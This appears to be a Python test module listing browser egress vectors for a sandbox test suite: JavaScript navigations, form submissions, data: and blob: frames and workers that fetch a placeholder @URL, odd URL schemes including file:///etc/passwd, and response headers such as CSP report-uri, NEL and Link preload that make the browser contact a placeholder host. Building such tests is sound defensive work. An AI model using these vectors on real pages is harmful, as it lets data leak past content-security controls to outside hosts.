"""Vectors that go somewhere: navigations, other schemes, and what the head of a response can ask for."""

import json

from tests.attacks.egress.vectors import Vector, family, scripts

NAVIGATIONS = {
    "href": "location.href = '@URL'",
    "replace": "location.replace('@URL')",
    "assign": "location.assign('@URL')",
    "navigation api": "navigation.navigate('@URL')",
    "parent": "parent.location = '@URL'",
    "open": "window.open('@URL')",
    "open without opener": "window.open('@URL', '', 'noopener')",
    "open, then go": "const w = window.open('about:blank'); w.location = '@URL'",
    "open, then fetch": "const w = window.open('about:blank'); w.fetch('@URL', {mode: 'no-cors'})",
    "open, then write": "const w = window.open(''); w.document.write('<img src=@URL>')",
    "get form": "document.body.innerHTML = '<form action=@URL><input name=a></form>';"
    " document.forms[0].submit()",
    "post form": "document.body.innerHTML = '<form method=post action=@URL></form>';"
    " document.forms[0].submit()",
    "multipart form": "document.body.innerHTML = '<form method=post enctype=multipart/form-data action=@URL>"
    "<input name=a></form>'; document.forms[0].submit()",
    "form to a new window": "document.body.innerHTML = '<form target=_blank action=@URL></form>';"
    " document.forms[0].submit()",
    "formaction": "document.body.innerHTML = '<form><button formaction=@URL>x</button></form>';"
    " document.querySelector('button').click()",
    "link": "document.body.innerHTML = '<a href=@URL>x</a>'; document.querySelector('a').click()",
    "link to a new window": "document.body.innerHTML = '<a target=_blank href=@URL>x</a>';"
    " document.querySelector('a').click()",
    "download": "document.body.innerHTML = '<a download href=@URL>x</a>';"
    " document.querySelector('a').click()",
    "script address": "location = 'javascript:fetch(\"@URL\")'",
    "history": "history.pushState({}, '', '/x'); const f = document.createElement('iframe'); f.src ="
    " '@TO(302)';"
    " document.body.append(f)",
    "svg link": "document.body.innerHTML = '<svg><a href=@URL><text>x</text></a></svg>';"
    " document.querySelector('a').dispatchEvent(new MouseEvent('click'))",
}
#: Pages that are nobody's: what they ask for must go the same way.
NOWHERE = {
    "data page": "const f = document.createElement('iframe'); f.src = 'data:text/html,<img src=@URL>';"
    " document.body.append(f)",
    "data script": 'import(\'data:text/javascript,fetch("@URL",{mode:"no-cors"})\')',
    "data worker": 'new Worker(\'data:text/javascript,fetch("@URL",{mode:"no-cors"})\')',
    "blob page": "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new"
    " Blob(['<img src=@URL>'],"
    " {type: 'text/html'})); document.body.append(f)",
    "blank page": "const f = document.createElement('iframe'); document.body.append(f);"
    " f.contentWindow.fetch('@URL', {mode: 'no-cors'})",
    "sandboxed page": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';"
    " f.srcdoc = '<script>fetch(\"@URL\", {mode: \"no-cors\"})</' + 'script>'; document.body.append(f)",
    "document.write": "document.write('<img src=@URL>')",
    "xml page": "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["
    "'<?xml-stylesheet href=\"@URL\"?><x/>'], {type: 'text/xml'})); document.body.append(f)",
}
SCHEMES = (
    *(
        "view-source:@URL",
        "ftp://@HOST/@TAG",
        "ws://@HOST/@TAG",
        "feed:@URL",
        "jar:@URL!/",
        "filesystem:@URL",
    ),
    *("blob:@URL", "gopher://@HOST/@TAG", "dict://@HOST/@TAG", "ldap://@HOST/@TAG", "smb://@HOST/@TAG"),
    *(
        "sftp://@HOST/@TAG",
        "ssh://@HOST",
        "telnet://@HOST",
        "mailto:x@@HOST",
        "intent://@HOST/#Intent;scheme=http;end",
    ),
    *(
        "chrome://net-internals/#dns",
        "devtools://devtools/bundled/inspector.html?ws=@HOST/@TAG",
        "file:///etc/passwd",
    ),
    *("chrome-extension://x/@URL", "isolated-app://@HOST/", "web+x:@URL", "rtsp://@HOST/@TAG", "stun:@HOST"),
    *("http:@HOST/@TAG", "http:/@HOST/@TAG", "http:///@HOST/@TAG", "http:\\\\@HOST\\@TAG", "//@HOST/@TAG"),
)
POLICY = "default-src 'self' 'unsafe-inline'"
REPORT = json.dumps({"group": "x", "max_age": 99, "endpoints": [{"url": "@URL"}]})
BREAK = "<img src='http://127.0.0.1:1/'><script>eval('1'); document.domain</script>"
HEADERS = {
    "csp report-uri": ("Content-Security-Policy: " + POLICY + "; report-uri @URL",),
    "csp report only": ("Content-Security-Policy-Report-Only: " + POLICY + "; report-uri @URL",),
    "csp report-to": (f"Report-To: {REPORT}", "Content-Security-Policy: " + POLICY + "; report-to x"),
    "reporting endpoints": (
        'Reporting-Endpoints: x="@URL"',
        "Content-Security-Policy: " + POLICY + "; report-to x",
    ),
    "default reports": (
        'Reporting-Endpoints: default="@URL"',
        "Document-Policy-Report-Only: unsized-media=?0",
    ),
    "network errors": (
        f"Report-To: {REPORT}",
        'NEL: {"report_to": "x", "max_age": 99, "success_fraction": 1}',
    ),
    "embedder policy": (
        'Reporting-Endpoints: x="@URL"',
        'Cross-Origin-Embedder-Policy: require-corp; report-to="x"',
    ),
    "opener policy": (
        'Reporting-Endpoints: x="@URL"',
        'Cross-Origin-Opener-Policy: same-origin; report-to="x"',
    ),
    "permissions policy": ('Reporting-Endpoints: x="@URL"', "Permissions-Policy: camera=();report-to=x"),
    "refresh": ("Refresh: 0;url=@URL",),
    "link preload": ("Link: <@URL>; rel=preload; as=script",),
    "link stylesheet": ("Link: <@URL>; rel=stylesheet",),
    "link preconnect": ("Link: <@URL>; rel=preconnect", "Link: <http://@HOST>; rel=dns-prefetch"),
    "link modulepreload": ("Link: <@URL>; rel=modulepreload",),
    "link prefetch": ("Link: <@URL>; rel=prefetch; as=document",),
    "speculation rules": ('Speculation-Rules: "@URL"',),
    "source map": ("SourceMap: @URL",),
    "alternative service": ('Alt-Svc: h3="@HOST"; ma=99, h2="@HOST"; ma=99',),
    "proxy": ("Proxy-Authenticate: Basic realm=x", "X-Proxy-Location: @URL", "Location: @URL"),
    "dictionary": ("Link: <@URL>; rel=compression-dictionary", 'Use-As-Dictionary: match="/*"'),
    "attribution": (
        "Attribution-Reporting-Register-Source: {}",
        "Attribution-Reporting-Info: report-header-errors",
    ),
    "set login": ("Set-Login: logged-in", "Content-Location: @URL", "Sec-GPC: @URL"),
}


def navigations() -> list[Vector]:
    return [
        *scripts("navigations", NAVIGATIONS, top=True),
        *scripts(
            "navigations of frames", {name: code for name, code in NAVIGATIONS.items() if name != "parent"}
        ),
        *scripts("pages of nobody", NOWHERE),
    ]


def schemes() -> list[Vector]:
    table = {
        address: f"<iframe src='{address}'></iframe><img"
        f" src='{address}'><script>fetch(String.raw`{address}`);"
        f"window.open(String.raw`{address}`)</script>"
        for address in SCHEMES
    }
    return family("other schemes", table)


def headers() -> list[Vector]:
    return [Vector("headers", name, BREAK, headers=heads, top=True) for name, heads in HEADERS.items()]
